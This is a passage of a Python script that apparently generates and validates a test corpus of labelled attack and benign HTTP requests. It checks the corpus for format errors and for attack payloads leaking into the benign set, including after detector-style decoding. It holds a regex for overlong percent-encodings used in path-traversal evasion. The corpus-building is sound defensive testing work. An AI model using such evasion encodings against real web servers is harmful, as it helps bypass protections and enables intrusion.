        if ct.startswith("application/x-www-form-urlencoded"):
            parts.append(urllib.parse.unquote_plus(b))
        if ct.startswith("application/json"):
            parts.extend(json_walk_strings(json.loads(b)))
    return "\x01".join(parts)


def check(attack_path, benign_path, attack_bases):
    errors = []
    ids = set()
    data = {}
    for path in (attack_path, benign_path):
        recs = []
        with open(path, encoding="utf-8") as f:
            for n, line in enumerate(f, 1):
                try:
                    rec = json.loads(line)
                except ValueError as e:
                    errors.append("%s:%d does not parse: %s" % (path, n, e))
                    continue
                recs.append(rec)
                if list(rec) != list(FIELDS):
                    errors.append("%s: bad fields %s" % (rec.get("id"), list(rec)))
                if rec["id"] in ids:
                    errors.append("duplicate id " + rec["id"])
                ids.add(rec["id"])
                if rec["class"] not in CLASSES + ("benign",):
                    errors.append("%s: bad class" % rec["id"])
                if rec["location"] not in LOCATIONS:
                    errors.append("%s: bad location" % rec["id"])
                if rec["method"] not in METHODS:
                    errors.append("%s: bad method" % rec["id"])
                if not rec["path"].startswith("/") or not set(rec["path"]) <= PATH_CHARS:
                    errors.append("%s: path not wire-valid: %r" % (rec["id"], rec["path"]))
                if not set(rec["query"]) <= QUERY_CHARS:
                    errors.append("%s: query not wire-valid: %r" % (rec["id"], rec["query"]))
                for name, value in rec["headers"]:
                    if name.lower() in ("content-length", "host", "content-type"):
                        errors.append("%s: forbidden header %s" % (rec["id"], name))
                    if not all(c == "\t" or 0x20 <= ord(c) < 0x7F for c in value):
                        errors.append("%s: header %s has CR/LF/NUL/non-ASCII" % (rec["id"], name))
                if (rec["body"] is None) != (rec["content_type"] is None):
                    errors.append("%s: body/content_type mismatch" % rec["id"])
                ct = rec["content_type"] or ""
                if ct.startswith("application/json"):
                    json.loads(rec["body"])
                if ct.startswith("application/x-www-form-urlencoded") and not set(rec["body"]) <= QUERY_CHARS:
                    errors.append("%s: form body not wire-valid" % rec["id"])
                if ct.startswith("multipart/"):
                    b = ct.split("boundary=", 1)[1]
                    if not rec["body"].startswith("--" + b + "\r\n") or not rec["body"].endswith("--" + b + "--\r\n"):
                        errors.append("%s: multipart framing" % rec["id"])
                if re.search(r"%(c0|c1|e0%80|f0%80)", rec["path"] + rec["query"] + json.dumps(rec["headers"]), re.I) \
                        and rec["class"] == "traversal" and "overlong" not in rec["note"]:
                    errors.append("%s: overlong encoding without 'overlong' note" % rec["id"])
        data[path] = recs
    attacks, benign = data[attack_path], data[benign_path]
    cls_counts = collections.Counter(r["class"] for r in attacks)
    for c, m in MINIMUMS.items():
        if cls_counts[c] < m:
            errors.append("class %s has %d < %d" % (c, cls_counts[c], m))
    if len(attacks) < MIN_ATTACKS:
        errors.append("only %d attacks" % len(attacks))
    if len(benign) < MIN_BENIGN:
        errors.append("only %d benign" % len(benign))
    if any(r["class"] != "benign" for r in benign) or any(r["class"] == "benign" for r in attacks):
        errors.append("class mixed between files")
    # No attack request identical to a benign one, no attack payload verbatim in benign.
    bkeys = {key_of(r) for r in benign}
    for r in attacks:
        if key_of(r) in bkeys:
            errors.append("%s identical to a benign request" % r["id"])
    hay = [haystack(r) for r in benign]
    big = "\x02".join(hay)
    for base in sorted(attack_bases):
        if base and base in big:
            where = next(b["id"] for b, h in zip(benign, hay) if base in h)
            errors.append("attack payload %r appears verbatim in %s" % (base, where))
    # Stricter: also after detector-like normalisation (percent, entities, NFKC, case).
    nhay = [normalise(h) for h in hay]
    nbig = "\x02".join(nhay)
    for base in sorted(attack_bases):
        n = normalise(base)
        if len(n) >= 4 and n in nbig:
            where = next(b["id"] for b, h in zip(benign, nhay) if n in h)
            errors.append("attack payload %r appears (normalised) in %s" % (base, where))
    return errors, attacks, benign


def normalise(s):
    for _ in range(3):
        s = html.unescape(full_decode(s))
    return unicodedata.normalize("NFKC", s).casefold()


def table(recs, row_key, col_key, rows_order, cols_order):
    counts = collections.Counter((r[row_key], r[col_key]) for r in recs)
    cols = [c for c in cols_order if any(counts[(x, c)] for x in rows_order)]
    cw = {c: max(len(c), 4) for c in cols}
    w = max(len(x) for x in list(rows_order) + ["total"]) + 1
    lines = ["| %s | %s | total |" % ("class".ljust(w), " | ".join(c.rjust(cw[c]) for c in cols)),
             "|%s|%s|------:|" % ("-" * (w + 2), "|".join("-" * (cw[c] + 1) + ":" for c in cols))]
    for x in rows_order:
        tot = sum(counts[(x, c)] for c in cols)
        if tot:
            lines.append("| %s | %s | %5d |" % (x.ljust(w), " | ".join(str(counts[(x, c)]).rjust(cw[c]) for c in cols), tot))
    lines.append("| %s | %s | %5d |" % ("total".ljust(w), " | ".join(str(sum(counts[(x, c)] for x in rows_order)).rjust(cw[c]) for c in cols),
                                         sum(counts.values())))
    return "\n".join(lines)


def summary(attacks, benign):
    allr = attacks + benign
    order = list(CLASSES) + ["benign"]
    grey = sum(1 for r in benign if r["note"].startswith("grey"))
    overlong = sum(1 for r in attacks if "overlong" in r["note"])
    out = ["attacks.jsonl: %d requests; benign.jsonl: %d requests (%d marked grey:); %d attack cases noted overlong"
           % (len(attacks), len(benign), grey, overlong), "",
           "Class x location:", "", table(allr, "class", "location", order, LOCATIONS), "",
           "Class x method:", "", table(allr, "class", "method", order, METHODS)]
    return "\n".join(out)


def update_readme(text):
    path = os.path.join(HERE, "README.md")
    if not os.path.exists(path):
        return
    with open(path, encoding="utf-8") as f:
        doc = f.read()
    start, end = "<!-- counts:start -->", "<!-- counts:end -->"
    if start in doc and end in doc:
        new = doc.split(start)[0] + start + "\n```\n" + text + "\n```\n" + end + doc.split(end, 1)[1]
        if new != doc:
            with open(path, "w", encoding="utf-8", newline="\n") as f:
                f.write(new)


def main():
    rng = random.Random(SEED)
    attack_rows = build_attacks(rng)
    benign_rows = build_benign(random.Random(SEED + 1))
    attacks = finalize(attack_rows, lambda r: r["cls"])
    benign = finalize(benign_rows, lambda r: "benign")
    apath, bpath = os.path.join(HERE, "attacks.jsonl"), os.path.join(HERE, "benign.jsonl")
    write_jsonl(apath, [rec for rec, _ in attacks])
    write_jsonl(bpath, [rec for rec, _ in benign])
    bases = {r["_base"] for _, r in attacks}
    errors, a, b = check(apath, bpath, bases)
    text = summary(a, b)
    print(text)
    if errors:
        print("\nCHECK FAILED:", file=sys.stderr)
        for e in errors[:50]:
            print("  " + e, file=sys.stderr)
        sys.exit(1)
    update_readme(text)
    print("\nchecks passed: parse, field order, unique ids, minimums, wire validity, "
          "no attack payload in benign (verbatim or after normalisation)")


if __name__ == "__main__":
    main()
